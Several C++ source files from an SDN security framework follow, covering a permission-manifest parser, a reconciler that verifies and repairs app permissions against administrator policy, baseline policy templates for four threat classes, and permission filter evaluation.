  next();
  return true;
}

void TokenCursor::expectKeyword(const std::string& keyword) {
  if (!acceptKeyword(keyword)) {
    fail("expected '" + keyword + "', found '" + peek().text + "'");
  }
}

bool TokenCursor::accept(TokenType type) {
  if (peek().type != type) return false;
  next();
  return true;
}

LexToken TokenCursor::expect(TokenType type, const std::string& what) {
  if (peek().type != type) {
    fail("expected " + what + ", found '" +
         (peek().type == TokenType::kNewline ? "end-of-line" : peek().text) +
         "'");
  }
  return next();
}

void TokenCursor::skipNewlines() {
  while (peek().type == TokenType::kNewline) next();
}

void TokenCursor::fail(const std::string& message) const {
  const LexToken& token = peek();
  throw ParseError(message, token.line, token.column);
}

namespace {

using perm::FilterExpr;
using perm::FilterExprPtr;
using perm::FilterPtr;

std::optional<of::MatchField> fieldByName(const std::string& name) {
  if (name == "IP_SRC") return of::MatchField::kIpSrc;
  if (name == "IP_DST") return of::MatchField::kIpDst;
  if (name == "TCP_SRC" || name == "UDP_SRC" || name == "TP_SRC")
    return of::MatchField::kTpSrc;
  if (name == "TCP_DST" || name == "UDP_DST" || name == "TP_DST")
    return of::MatchField::kTpDst;
  if (name == "IN_PORT") return of::MatchField::kInPort;
  if (name == "ETH_SRC") return of::MatchField::kEthSrc;
  if (name == "ETH_DST") return of::MatchField::kEthDst;
  if (name == "ETH_TYPE") return of::MatchField::kEthType;
  if (name == "VLAN_ID" || name == "VLAN") return of::MatchField::kVlanId;
  if (name == "IP_PROTO") return of::MatchField::kIpProto;
  return std::nullopt;
}

bool isIpMatchField(of::MatchField field) {
  return field == of::MatchField::kIpSrc || field == of::MatchField::kIpDst;
}

/// Parses `{ a, b, ... }` or a bare comma-separated int list.
std::set<of::DatapathId> parseSwitchSet(TokenCursor& cursor) {
  std::set<of::DatapathId> out;
  bool braced = cursor.accept(TokenType::kLBrace);
  if (braced && cursor.accept(TokenType::kRBrace)) return out;
  do {
    out.insert(cursor.expect(TokenType::kInt, "switch id").intValue);
  } while (cursor.accept(TokenType::kComma) &&
           cursor.peek().type == TokenType::kInt);
  if (braced) cursor.expect(TokenType::kRBrace, "'}'");
  return out;
}

/// Parses `{ (a,b), ... }` or a bare list of `(a,b)` pairs.
std::set<std::pair<of::DatapathId, of::DatapathId>> parseLinkSet(
    TokenCursor& cursor) {
  std::set<std::pair<of::DatapathId, of::DatapathId>> out;
  bool braced = cursor.accept(TokenType::kLBrace);
  if (braced && cursor.accept(TokenType::kRBrace)) return out;
  while (cursor.peek().type == TokenType::kLParen) {
    cursor.expect(TokenType::kLParen, "'('");
    of::DatapathId a = cursor.expect(TokenType::kInt, "switch id").intValue;
    cursor.expect(TokenType::kComma, "','");
    of::DatapathId b = cursor.expect(TokenType::kInt, "switch id").intValue;
    cursor.expect(TokenType::kRParen, "')'");
    out.emplace(a, b);
    if (!cursor.accept(TokenType::kComma)) break;
  }
  if (braced) cursor.expect(TokenType::kRBrace, "'}'");
  return out;
}

FilterPtr parseActionFilter(TokenCursor& cursor) {
  if (cursor.acceptKeyword("DROP")) return perm::ActionFilter::drop();
  if (cursor.acceptKeyword("FORWARD")) return perm::ActionFilter::forward();
  if (cursor.acceptKeyword("MODIFY")) {
    const LexToken& token = cursor.expect(TokenType::kIdent, "field name");
    auto field = fieldByName(token.text);
    if (!field) {
      throw ParseError("unknown field '" + token.text + "'", token.line,
                       token.column);
    }
    return perm::ActionFilter::modify(*field);
  }
  cursor.fail("expected DROP, FORWARD or MODIFY");
}

/// Parses a predicate filter body after the field name.
FilterPtr parsePredicate(TokenCursor& cursor, of::MatchField field) {
  if (isIpMatchField(field)) {
    of::Ipv4Address value{
        static_cast<std::uint32_t>(cursor.peek().type == TokenType::kInt
                                       ? cursor.next().intValue
                                       : cursor.expect(TokenType::kIp,
                                                       "IP value")
                                             .ipValue)};
    of::Ipv4Address mask{0xffffffffu};
    if (cursor.acceptKeyword("MASK")) {
      const LexToken& maskToken = cursor.peek().type == TokenType::kInt
                                      ? cursor.next()
                                      : cursor.expect(TokenType::kIp, "mask");
      mask = of::Ipv4Address{static_cast<std::uint32_t>(
          maskToken.type == TokenType::kIp ? maskToken.ipValue
                                           : maskToken.intValue)};
    }
    return FilterPtr{
        new perm::FieldPredicateFilter(field, of::MaskedIpv4{value, mask})};
  }
  const LexToken& token = cursor.expect(TokenType::kInt, "integer value");
  return FilterPtr{new perm::FieldPredicateFilter(field, token.intValue)};
}

FilterPtr parseSingletonFilter(TokenCursor& cursor) {
  const LexToken& token = cursor.peek();
  if (token.type != TokenType::kIdent) {
    cursor.fail("expected a filter, found '" + token.text + "'");
  }
  const std::string& name = token.text;

  if (name == "WILDCARD") {
    cursor.next();
    const LexToken& fieldToken = cursor.expect(TokenType::kIdent, "field name");
    auto field = fieldByName(fieldToken.text);
    if (!field) {
      throw ParseError("unknown field '" + fieldToken.text + "'",
                       fieldToken.line, fieldToken.column);
    }
    if (isIpMatchField(*field)) {
      const LexToken& maskToken = cursor.peek().type == TokenType::kInt
                                      ? cursor.next()
                                      : cursor.expect(TokenType::kIp, "mask");
      of::Ipv4Address mask{static_cast<std::uint32_t>(
          maskToken.type == TokenType::kIp ? maskToken.ipValue
                                           : maskToken.intValue)};
      return FilterPtr{new perm::WildcardFilter(*field, mask)};
    }
    return FilterPtr{new perm::WildcardFilter(*field)};
  }
  if (name == "ACTION") {
    cursor.next();
    return parseActionFilter(cursor);
  }
  if (name == "DROP" || name == "FORWARD" || name == "MODIFY") {
    return parseActionFilter(cursor);
  }
  if (name == "OWN_FLOWS") {
    cursor.next();
    return FilterPtr{new perm::OwnershipFilter(true)};
  }
  if (name == "ALL_FLOWS") {
    cursor.next();
    return FilterPtr{new perm::OwnershipFilter(false)};
  }
  if (name == "MAX_PRIORITY" || name == "MIN_PRIORITY") {
    cursor.next();
    const LexToken& bound = cursor.expect(TokenType::kInt, "priority");
    return FilterPtr{new perm::PriorityFilter(
        name == "MAX_PRIORITY", static_cast<std::uint16_t>(bound.intValue))};
  }
  if (name == "MAX_RULE_COUNT") {
    cursor.next();
    const LexToken& bound = cursor.expect(TokenType::kInt, "rule count");
    return FilterPtr{
        new perm::TableSizeFilter(static_cast<std::size_t>(bound.intValue))};
  }
  if (name == "FROM_PKT_IN") {
    cursor.next();
    return FilterPtr{new perm::PktOutFilter(true)};
  }
  if (name == "ARBITRARY") {
    cursor.next();
    return FilterPtr{new perm::PktOutFilter(false)};
  }
  if (name == "SWITCH") {
    cursor.next();
    std::set<of::DatapathId> switches = parseSwitchSet(cursor);
    std::set<std::pair<of::DatapathId, of::DatapathId>> links;
    if (cursor.acceptKeyword("LINK")) links = parseLinkSet(cursor);
    return FilterPtr{
        new perm::PhysicalTopologyFilter(std::move(switches), std::move(links))};
  }
  if (name == "VIRTUAL") {
    cursor.next();
    std::set<of::DatapathId> members;
    if (!cursor.acceptKeyword("SINGLE_BIG_SWITCH")) {
      members = parseSwitchSet(cursor);
    }
    // Optional `LINK EXTERNAL_LINKS` / `LINK link_set` clause: the external
    // ports are derived from the physical topology, so the clause is
    // accepted and recorded only as syntax.
    if (cursor.acceptKeyword("LINK")) {
      if (!cursor.acceptKeyword("EXTERNAL_LINKS")) parseLinkSet(cursor);
    }
    return FilterPtr{new perm::VirtualTopologyFilter(std::move(members))};
  }
  if (name == "EVENT_INTERCEPTION") {
    cursor.next();
    return FilterPtr{new perm::CallbackFilter(
        perm::CallbackFilter::Capability::kInterception)};
  }
  if (name == "MODIFY_EVENT_ORDER") {
    cursor.next();
    return FilterPtr{new perm::CallbackFilter(
        perm::CallbackFilter::Capability::kModifyOrder)};
  }
  if (name == "FLOW_LEVEL") {
    cursor.next();
    return FilterPtr{new perm::StatisticsFilter(of::StatsLevel::kFlow)};
  }
  if (name == "PORT_LEVEL") {
    cursor.next();
    return FilterPtr{new perm::StatisticsFilter(of::StatsLevel::kPort)};
  }
  if (name == "SWITCH_LEVEL") {
    cursor.next();
    return FilterPtr{new perm::StatisticsFilter(of::StatsLevel::kSwitch)};
  }
  if (auto field = fieldByName(name)) {
    cursor.next();
    return parsePredicate(cursor, *field);
  }
  // Anything else in filter position is a customization stub macro.
  cursor.next();
  return FilterPtr{new perm::StubFilter(name)};
}

FilterExprPtr parseUnary(TokenCursor& cursor);
FilterExprPtr parseAnd(TokenCursor& cursor);
FilterExprPtr parseOr(TokenCursor& cursor);

FilterExprPtr parseUnary(TokenCursor& cursor) {
  if (cursor.acceptKeyword("NOT")) {
    return FilterExpr::negate(parseUnary(cursor));
  }
  if (cursor.accept(TokenType::kLParen)) {
    FilterExprPtr inner = parseOr(cursor);
    cursor.expect(TokenType::kRParen, "')'");
    return inner;
  }
  return FilterExpr::singleton(parseSingletonFilter(cursor));
}

FilterExprPtr parseAnd(TokenCursor& cursor) {
  FilterExprPtr lhs = parseUnary(cursor);
  while (cursor.acceptKeyword("AND")) {
    lhs = FilterExpr::conj(std::move(lhs), parseUnary(cursor));
  }
  return lhs;
}

FilterExprPtr parseOr(TokenCursor& cursor) {
  FilterExprPtr lhs = parseAnd(cursor);
  while (cursor.acceptKeyword("OR")) {
    lhs = FilterExpr::disj(std::move(lhs), parseAnd(cursor));
  }
  return lhs;
}

}  // namespace

perm::FilterExprPtr parseFilterExpr(TokenCursor& cursor) {
  return parseOr(cursor);
}

perm::Permission parsePermStmt(TokenCursor& cursor) {
  cursor.expectKeyword("PERM");
  const LexToken& nameToken = cursor.expect(TokenType::kIdent, "token name");
  auto token = perm::parseToken(nameToken.text);
  if (!token) {
    throw ParseError("unknown permission token '" + nameToken.text + "'",
                     nameToken.line, nameToken.column);
  }
  perm::Permission out;
  out.token = *token;
  if (cursor.acceptKeyword("LIMITING")) {
    out.filter = parseFilterExpr(cursor);
  }
  return out;
}

}  // namespace detail

PermissionManifest parseManifest(const std::string& text) {
  detail::TokenCursor cursor{lex(text)};
  PermissionManifest manifest;
  cursor.skipNewlines();
  if (cursor.acceptKeyword("APP")) {
    manifest.appName =
        cursor.expect(TokenType::kIdent, "application name").text;
    cursor.skipNewlines();
  }
  while (!cursor.atEnd()) {
    perm::Permission perm = detail::parsePermStmt(cursor);
    manifest.permissions.grant(perm.token, perm.filter);
    if (!cursor.atEnd()) {
      if (!cursor.accept(TokenType::kNewline)) {
        cursor.fail("expected end of permission statement");
      }
      cursor.skipNewlines();
    }
  }
  return manifest;
}

perm::PermissionSet parsePermissions(const std::string& text) {
  return parseManifest(text).permissions;
}

perm::FilterExprPtr parseFilterExpr(const std::string& text) {
  detail::TokenCursor cursor{lex(text)};
  cursor.skipNewlines();
  perm::FilterExprPtr expr = detail::parseFilterExpr(cursor);
  cursor.skipNewlines();
  if (!cursor.atEnd()) cursor.fail("trailing input after filter expression");
  return expr;
}

}  // namespace sdnshield::lang
