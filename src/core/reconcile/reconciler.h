// Security policy reconciliation (paper §V): verifies an app's requested
// permission manifest against the administrator's policy program, alerts on
// violations, and produces repaired ("reconciled") permissions —
//  * stub macros are expanded by the preprocessor (LET filter bindings),
//  * mutual-exclusion violations are repaired by truncating one of the
//    exclusive permissions,
//  * permission-boundary violations are repaired by intersecting the
//    manifest with the boundary (lattice meet).
#pragma once

#include <map>
#include <optional>
#include <string>
#include <vector>

#include "core/lang/perm_parser.h"
#include "core/lang/policy_ast.h"

namespace sdnshield::reconcile {

struct Violation {
  enum class Kind {
    kUnresolvedStub,
    kMutualExclusion,
    kBoundary,
    kAssertionFailed,  ///< Composite assertion that could not be auto-repaired.
  };

  Kind kind = Kind::kAssertionFailed;
  std::string constraintText;  ///< The offending constraint / stub name.
  std::string detail;          ///< Human-readable explanation.
  /// Tokens removed (mutual exclusion) by the repair, if any.
  std::vector<perm::Token> truncatedTokens;
  /// Alternative repaired permission sets offered for the administrator's
  /// consideration (§III): for a mutual exclusion, *both* truncation
  /// choices; for a boundary, the intersection. The first alternative is
  /// the one the engine applied.
  std::vector<perm::PermissionSet> alternatives;

  std::string toString() const;
};

struct ReconcileResult {
  /// The final, repaired permissions offered for the administrator's
  /// consideration.
  perm::PermissionSet finalPermissions;
  std::vector<Violation> violations;
  bool clean() const { return violations.empty(); }
};

class Reconciler {
 public:
  explicit Reconciler(lang::PolicyProgram policy)
      : policy_(std::move(policy)) {}

  const lang::PolicyProgram& policy() const { return policy_; }

  /// Reconciles one app manifest. @p otherApps supplies the permission sets
  /// of already-deployed apps for APP references in the policy.
  ReconcileResult reconcile(
      const lang::PermissionManifest& manifest,
      const std::map<std::string, perm::PermissionSet>& otherApps = {}) const;

 private:
  struct EvalContext;

  perm::PermissionSet evalSet(const lang::PermSetExprPtr& expr,
                              EvalContext& ctx) const;
  bool evalBool(const lang::BoolExprPtr& expr, EvalContext& ctx) const;

  lang::PolicyProgram policy_;
};

}  // namespace sdnshield::reconcile
