// Distributable security-policy templates (paper §III): canned policy
// snippets, one per threat class of §II, that administrators can apply
// as-is to get baseline protection, then customize. Each returns security
// policy language text for parsePolicy(); templates compose by
// concatenation.
#pragma once

#include <string>

#include "of/types.h"

namespace sdnshield::reconcile::templates {

/// Class 1 (intrusion to data plane): an app must not combine data-plane
/// sniffing/injection with an outside communication channel — the
/// combination lets a remote attacker puppet the data plane (§III's own
/// example defence).
std::string class1DataPlaneIntrusion();

/// Class 2 (information leakage): @p appName's host-network egress is
/// bounded to the administrator's collector range, and file-system /
/// process escape hatches are excluded alongside network-state visibility.
/// Also binds the conventional `AdminRange` stub macro.
std::string class2InformationLeakage(const std::string& appName,
                                     of::Ipv4Address adminSubnet,
                                     int prefixBits);

/// Class 3 (manipulation of rules): @p appName's flow writes bounded to its
/// own flows and to forwarding actions — no overriding or rewriting of
/// other apps' rules.
std::string class3RuleManipulation(const std::string& appName);

/// Class 4 (attacking other apps): @p appName cannot rewrite packet headers
/// (the dynamic-flow-tunneling mechanism) nor delete foreign rules.
std::string class4AppInterference(const std::string& appName);

/// All four, parameterized, concatenated — the "basic protection" profile.
std::string baselineProfile(const std::string& appName,
                            of::Ipv4Address adminSubnet, int prefixBits);

}  // namespace sdnshield::reconcile::templates
