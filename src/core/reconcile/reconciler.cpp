#include "core/reconcile/reconciler.h"

#include <algorithm>
#include <set>
#include <sstream>
#include <stdexcept>

namespace sdnshield::reconcile {

std::string Violation::toString() const {
  std::ostringstream out;
  switch (kind) {
    case Kind::kUnresolvedStub:
      out << "unresolved stub macro";
      break;
    case Kind::kMutualExclusion:
      out << "mutual exclusion violation";
      break;
    case Kind::kBoundary:
      out << "permission boundary violation";
      break;
    case Kind::kAssertionFailed:
      out << "assertion failed";
      break;
  }
  out << " [" << constraintText << "]";
  if (!detail.empty()) out << ": " << detail;
  if (!truncatedTokens.empty()) {
    out << " (truncated:";
    for (perm::Token token : truncatedTokens) {
      out << " " << perm::toString(token);
    }
    out << ")";
  }
  return out.str();
}

struct Reconciler::EvalContext {
  std::string currentApp;
  const perm::PermissionSet* currentPerms = nullptr;
  const std::map<std::string, perm::PermissionSet>* otherApps = nullptr;
  std::set<std::string> inProgress;   // Cycle detection for LET chains.
  bool touchedCurrentApp = false;     // Set when APP <current> was read.
};

perm::PermissionSet Reconciler::evalSet(const lang::PermSetExprPtr& expr,
                                        EvalContext& ctx) const {
  using Kind = lang::PermSetExpr::Kind;
  switch (expr->kind) {
    case Kind::kLiteral:
      // Templates may use stub macros too; expand with the same bindings.
      return expr->literal.substituteStubs(policy_.filterBindings);
    case Kind::kVar: {
      auto it = policy_.setBindings.find(expr->name);
      if (it == policy_.setBindings.end()) {
        throw std::invalid_argument("undefined permission-set variable '" +
                                    expr->name + "'");
      }
      if (!ctx.inProgress.insert(expr->name).second) {
        throw std::invalid_argument("cyclic LET binding '" + expr->name + "'");
      }
      perm::PermissionSet out = evalSet(it->second, ctx);
      ctx.inProgress.erase(expr->name);
      return out;
    }
    case Kind::kApp: {
      if (expr->name == ctx.currentApp) {
        ctx.touchedCurrentApp = true;
        return *ctx.currentPerms;
      }
      auto it = ctx.otherApps->find(expr->name);
      return it == ctx.otherApps->end() ? perm::PermissionSet{} : it->second;
    }
    case Kind::kMeet:
      return perm::PermissionSet::meet(evalSet(expr->lhs, ctx),
                                       evalSet(expr->rhs, ctx));
    case Kind::kJoin:
      return perm::PermissionSet::join(evalSet(expr->lhs, ctx),
                                       evalSet(expr->rhs, ctx));
  }
  return {};
}

bool Reconciler::evalBool(const lang::BoolExprPtr& expr,
                          EvalContext& ctx) const {
  using Kind = lang::BoolExpr::Kind;
  switch (expr->kind) {
    case Kind::kCompare: {
      perm::PermissionSet lhs = evalSet(expr->lhs, ctx);
      perm::PermissionSet rhs = evalSet(expr->rhs, ctx);
      switch (expr->op) {
        case lang::CmpOp::kLe:
          return rhs.includes(lhs);
        case lang::CmpOp::kGe:
          return lhs.includes(rhs);
        case lang::CmpOp::kLt:
          return rhs.includes(lhs) && !lhs.includes(rhs);
        case lang::CmpOp::kGt:
          return lhs.includes(rhs) && !rhs.includes(lhs);
        case lang::CmpOp::kEq:
          return lhs.equivalent(rhs);
      }
      return false;
    }
    case Kind::kAnd:
      return evalBool(expr->a, ctx) && evalBool(expr->b, ctx);
    case Kind::kOr:
      return evalBool(expr->a, ctx) || evalBool(expr->b, ctx);
    case Kind::kNot:
      return !evalBool(expr->a, ctx);
  }
  return false;
}

namespace {

/// True when every grant of @p perms that overlaps @p side is unrestricted
/// (no filter) — the heuristic for choosing which exclusive side to
/// truncate: prefer dropping the wider, unfiltered privilege.
bool overlapUnrestricted(const perm::PermissionSet& perms,
                         const perm::PermissionSet& side) {
  for (const perm::Permission& grant : perms.permissions()) {
    if (side.has(grant.token) && grant.filter) return false;
  }
  return true;
}

std::vector<perm::Token> overlapTokens(const perm::PermissionSet& perms,
                                       const perm::PermissionSet& side) {
  std::vector<perm::Token> out;
  for (const perm::Permission& grant : perms.permissions()) {
    if (side.has(grant.token)) out.push_back(grant.token);
  }
  return out;
}

/// Finds boundary comparisons of the shape `APP <=/< bound` (or reversed)
/// inside a failing assertion, for auto-repair by intersection.
void collectBoundaryRepairs(const lang::BoolExprPtr& expr,
                            std::vector<const lang::BoolExpr*>& out) {
  using Kind = lang::BoolExpr::Kind;
  switch (expr->kind) {
    case Kind::kCompare:
      if (expr->op == lang::CmpOp::kLe || expr->op == lang::CmpOp::kLt ||
          expr->op == lang::CmpOp::kGe || expr->op == lang::CmpOp::kGt) {
        out.push_back(expr.get());
      }
      return;
    case Kind::kAnd:
    case Kind::kOr:
      collectBoundaryRepairs(expr->a, out);
      collectBoundaryRepairs(expr->b, out);
      return;
    case Kind::kNot:
      return;  // Repair under negation would widen, never narrow: skip.
  }
}

}  // namespace

ReconcileResult Reconciler::reconcile(
    const lang::PermissionManifest& manifest,
    const std::map<std::string, perm::PermissionSet>& otherApps) const {
  ReconcileResult result;

  // Step 1 — preprocessor: expand stub macros with the LET filter bindings.
  result.finalPermissions =
      manifest.permissions.substituteStubs(policy_.filterBindings);
  for (const std::string& stub : result.finalPermissions.collectStubs()) {
    Violation violation;
    violation.kind = Violation::Kind::kUnresolvedStub;
    violation.constraintText = stub;
    violation.detail =
        "no LET binding supplies '" + stub + "'; the stub fails closed";
    result.violations.push_back(std::move(violation));
  }

  // Step 2 — verify and repair each constraint in order.
  for (const lang::Constraint& constraint : policy_.constraints) {
    EvalContext ctx;
    ctx.currentApp = manifest.appName;
    ctx.currentPerms = &result.finalPermissions;
    ctx.otherApps = &otherApps;

    if (constraint.kind == lang::Constraint::Kind::kMutualExclusion) {
      perm::PermissionSet sideA = evalSet(constraint.exclusiveA, ctx);
      perm::PermissionSet sideB = evalSet(constraint.exclusiveB, ctx);
      std::vector<perm::Token> inA =
          overlapTokens(result.finalPermissions, sideA);
      std::vector<perm::Token> inB =
          overlapTokens(result.finalPermissions, sideB);
      if (inA.empty() || inB.empty()) continue;
      // Violation: both exclusive sides are (partially) possessed. Truncate
      // the side whose grants are unrestricted; ties truncate the second.
      bool truncateA = overlapUnrestricted(result.finalPermissions, sideA) &&
                       !overlapUnrestricted(result.finalPermissions, sideB);
      const std::vector<perm::Token>& drop = truncateA ? inA : inB;
      const std::vector<perm::Token>& keepInstead = truncateA ? inB : inA;
      Violation violation;
      violation.kind = Violation::Kind::kMutualExclusion;
      violation.constraintText = constraint.toString();
      violation.truncatedTokens = drop;
      std::ostringstream detail;
      detail << "app holds both exclusive sides; truncating the "
             << (truncateA ? "first" : "second") << " side";
      violation.detail = detail.str();
      // Both truncation choices are offered; the applied one comes first.
      perm::PermissionSet applied = result.finalPermissions;
      for (perm::Token token : drop) applied.revoke(token);
      perm::PermissionSet other = result.finalPermissions;
      for (perm::Token token : keepInstead) other.revoke(token);
      violation.alternatives = {applied, other};
      result.finalPermissions = std::move(applied);
      result.violations.push_back(std::move(violation));
      continue;
    }

    // Boundary / general assertion.
    if (evalBool(constraint.assertion, ctx)) continue;

    // Attempt intersection repair on boundary-shaped comparisons that
    // reference this app.
    std::vector<const lang::BoolExpr*> candidates;
    collectBoundaryRepairs(constraint.assertion, candidates);
    bool repaired = false;
    for (const lang::BoolExpr* cmp : candidates) {
      bool appOnLeft =
          cmp->op == lang::CmpOp::kLe || cmp->op == lang::CmpOp::kLt;
      const lang::PermSetExprPtr& appSide = appOnLeft ? cmp->lhs : cmp->rhs;
      const lang::PermSetExprPtr& boundSide = appOnLeft ? cmp->rhs : cmp->lhs;
      // The app side must actually be (derived from) this app's manifest.
      EvalContext probe = ctx;
      probe.touchedCurrentApp = false;
      perm::PermissionSet appPerms = evalSet(appSide, probe);
      if (!probe.touchedCurrentApp) continue;
      perm::PermissionSet bound = evalSet(boundSide, probe);
      if (bound.includes(appPerms)) continue;  // This comparison holds.
      result.finalPermissions =
          perm::PermissionSet::meet(result.finalPermissions, bound);
      repaired = true;
    }

    EvalContext recheck = ctx;
    bool holdsNow = repaired && evalBool(constraint.assertion, recheck);
    Violation violation;
    violation.kind = holdsNow ? Violation::Kind::kBoundary
                              : Violation::Kind::kAssertionFailed;
    violation.constraintText = constraint.toString();
    violation.detail =
        holdsNow
            ? "manifest exceeded the boundary; intersected with the boundary"
            : "assertion does not hold and could not be auto-repaired";
    if (holdsNow) violation.alternatives = {result.finalPermissions};
    result.violations.push_back(std::move(violation));
  }
  return result;
}

}  // namespace sdnshield::reconcile
