#include "core/reconcile/policy_templates.h"

#include <sstream>

namespace sdnshield::reconcile::templates {

namespace {

/// A boundary set covering every token, with the listed tokens restricted
/// per @p limits ("token LIMITING ..." lines). Tokens not mentioned stay
/// unrestricted so the boundary only bites where intended.
std::string fullBoundaryExcept(const std::string& limits) {
  std::ostringstream out;
  out << "{\n";
  const char* unrestricted[] = {
      "read_flow_table", "flow_event",    "visible_topology",
      "modify_topology", "topology_event", "read_statistics",
      "error_event",     "read_payload",   "send_pkt_out",
      "pkt_in_event",    "file_system",    "process_runtime",
  };
  for (const char* token : unrestricted) {
    if (limits.find(token) == std::string::npos) {
      out << "PERM " << token << "\n";
    }
  }
  if (limits.find("insert_flow") == std::string::npos) {
    out << "PERM insert_flow\n";
  }
  if (limits.find("delete_flow") == std::string::npos) {
    out << "PERM delete_flow\n";
  }
  if (limits.find("network_access") == std::string::npos) {
    out << "PERM network_access\n";
  }
  out << limits;
  out << "}";
  return out.str();
}

std::string flowWriteBoundary(const std::string& insertLimit,
                              const std::string& deleteLimit) {
  std::ostringstream limits;
  limits << "PERM insert_flow LIMITING " << insertLimit << "\n";
  limits << "PERM delete_flow LIMITING " << deleteLimit << "\n";
  return fullBoundaryExcept(limits.str());
}

}  // namespace

std::string class1DataPlaneIntrusion() {
  return
      // Sniffing + outside channel => remote traffic interception.
      "ASSERT EITHER { PERM pkt_in_event\nPERM read_payload } "
      "OR { PERM network_access }\n"
      // Injection + outside channel => remote packet injection.
      "ASSERT EITHER { PERM send_pkt_out } OR { PERM network_access }\n";
}

std::string class2InformationLeakage(const std::string& appName,
                                     of::Ipv4Address adminSubnet,
                                     int prefixBits) {
  std::string range = "IP_DST " + adminSubnet.toString() + " MASK " +
                      of::Ipv4Address::prefixMask(prefixBits).toString();
  std::ostringstream out;
  out << "LET AdminRange = {" << range << "}\n";
  // Host-network egress is confined to the administrator's collectors.
  out << "LET " << appName << "_c2_bound = "
      << fullBoundaryExcept("PERM network_access LIMITING " + range + "\n")
      << "\n";
  out << "LET " << appName << "_c2_perm = APP " << appName << "\n";
  out << "ASSERT " << appName << "_c2_perm <= " << appName << "_c2_bound\n";
  // Network-state visibility must not coexist with uncontrolled host
  // escape hatches (files and subprocesses are classic side channels).
  out << "ASSERT EITHER { PERM visible_topology\nPERM read_statistics\n"
         "PERM read_flow_table } OR { PERM file_system\n"
         "PERM process_runtime }\n";
  return out.str();
}

std::string class3RuleManipulation(const std::string& appName) {
  std::ostringstream out;
  out << "LET " << appName << "_c3_bound = "
      << flowWriteBoundary("OWN_FLOWS AND ACTION FORWARD", "OWN_FLOWS")
      << "\n";
  out << "LET " << appName << "_c3_perm = APP " << appName << "\n";
  out << "ASSERT " << appName << "_c3_perm <= " << appName << "_c3_bound\n";
  return out.str();
}

std::string class4AppInterference(const std::string& appName) {
  std::ostringstream out;
  // Header rewriting is the dynamic-flow-tunneling mechanism; FORWARD-only
  // actions rule it out, and OWN_FLOWS deletes stop rule removal attacks.
  out << "LET " << appName << "_c4_bound = "
      << flowWriteBoundary("ACTION FORWARD", "OWN_FLOWS") << "\n";
  out << "LET " << appName << "_c4_perm = APP " << appName << "\n";
  out << "ASSERT " << appName << "_c4_perm <= " << appName << "_c4_bound\n";
  return out.str();
}

std::string baselineProfile(const std::string& appName,
                            of::Ipv4Address adminSubnet, int prefixBits) {
  return class1DataPlaneIntrusion() +
         class2InformationLeakage(appName, adminSubnet, prefixBits) +
         class3RuleManipulation(appName) + class4AppInterference(appName);
}

}  // namespace sdnshield::reconcile::templates
