#include "core/perm/filter.h"

#include <algorithm>
#include <functional>
#include <sstream>

namespace sdnshield::perm {

namespace {

bool isFlowCall(const ApiCall& call) {
  switch (call.type) {
    case ApiCallType::kInsertFlow:
    case ApiCallType::kModifyFlow:
    case ApiCallType::kDeleteFlow:
    case ApiCallType::kReadFlowTable:
      return true;
    case ApiCallType::kReadStatistics:
      return call.statsLevel == of::StatsLevel::kFlow;
    default:
      return false;
  }
}

bool isRuleIssuingCall(const ApiCall& call) {
  return call.type == ApiCallType::kInsertFlow ||
         call.type == ApiCallType::kModifyFlow ||
         call.type == ApiCallType::kDeleteFlow;
}

/// The (possibly wildcarded) predicate a flow call places on @p field,
/// expressed as a MaskedIpv4 for IP fields.
const std::optional<of::MaskedIpv4>& ipField(const of::FlowMatch& match,
                                             of::MatchField field) {
  static const std::optional<of::MaskedIpv4> kNone;
  switch (field) {
    case of::MatchField::kIpSrc:
      return match.ipSrc;
    case of::MatchField::kIpDst:
      return match.ipDst;
    default:
      return kNone;
  }
}

std::optional<std::uint64_t> intField(const of::FlowMatch& match,
                                      of::MatchField field) {
  switch (field) {
    case of::MatchField::kInPort:
      if (match.inPort) return *match.inPort;
      return std::nullopt;
    case of::MatchField::kEthSrc:
      if (match.ethSrc) return match.ethSrc->toUint64();
      return std::nullopt;
    case of::MatchField::kEthDst:
      if (match.ethDst) return match.ethDst->toUint64();
      return std::nullopt;
    case of::MatchField::kEthType:
      if (match.ethType) return *match.ethType;
      return std::nullopt;
    case of::MatchField::kVlanId:
      if (match.vlanId) return *match.vlanId;
      return std::nullopt;
    case of::MatchField::kIpProto:
      if (match.ipProto) return *match.ipProto;
      return std::nullopt;
    case of::MatchField::kTpSrc:
      if (match.tpSrc) return *match.tpSrc;
      return std::nullopt;
    case of::MatchField::kTpDst:
      if (match.tpDst) return *match.tpDst;
      return std::nullopt;
    default:
      return std::nullopt;
  }
}

}  // namespace

// --- FieldPredicateFilter ----------------------------------------------------

FieldPredicateFilter::FieldPredicateFilter(of::MatchField field,
                                           of::MaskedIpv4 range)
    : field_(field), range_(range) {}

FieldPredicateFilter::FieldPredicateFilter(of::MatchField field,
                                           std::uint64_t value)
    : field_(field), value_(value) {}

bool FieldPredicateFilter::isIpField() const {
  return field_ == of::MatchField::kIpSrc || field_ == of::MatchField::kIpDst;
}

std::uint32_t FieldPredicateFilter::dimension() const {
  return (static_cast<std::uint32_t>(kind()) << 16) |
         static_cast<std::uint32_t>(field_);
}

bool FieldPredicateFilter::evaluate(const ApiCall& call) const {
  // Host-system calls: IP_DST / TP_DST bound the remote endpoint.
  if (call.type == ApiCallType::kHostNetworkAccess) {
    if (field_ == of::MatchField::kIpDst) {
      return call.remoteIp && range_.matches(*call.remoteIp);
    }
    if (field_ == of::MatchField::kTpDst) {
      return call.remotePort && *call.remotePort == value_;
    }
    return true;  // Other fields do not apply to host calls.
  }
  if (!isFlowCall(call)) return true;  // Attribute category not applicable.
  // A flow call without a predicate addresses *all* flows — wider than any
  // bound, so it fails the narrower-than test.
  if (!call.match) return false;
  if (isIpField()) {
    const auto& pred = ipField(*call.match, field_);
    return pred && range_.subsumes(*pred);
  }
  auto pred = intField(*call.match, field_);
  return pred && *pred == value_;
}

bool FieldPredicateFilter::includes(const Filter& other) const {
  const auto* o = dynamic_cast<const FieldPredicateFilter*>(&other);
  if (o == nullptr || o->field_ != field_) return false;
  if (isIpField()) return range_.subsumes(o->range_);
  return value_ == o->value_;
}

bool FieldPredicateFilter::equals(const Filter& other) const {
  const auto* o = dynamic_cast<const FieldPredicateFilter*>(&other);
  if (o == nullptr || o->field_ != field_) return false;
  return isIpField() ? range_ == o->range_ : value_ == o->value_;
}

std::string FieldPredicateFilter::toString() const {
  if (isIpField()) return of::toString(field_) + " " + range_.toString();
  return of::toString(field_) + " " + std::to_string(value_);
}

// --- WildcardFilter ----------------------------------------------------------

WildcardFilter::WildcardFilter(of::MatchField field,
                               of::Ipv4Address mustWildcardBits)
    : field_(field), mustWildcard_(mustWildcardBits) {}

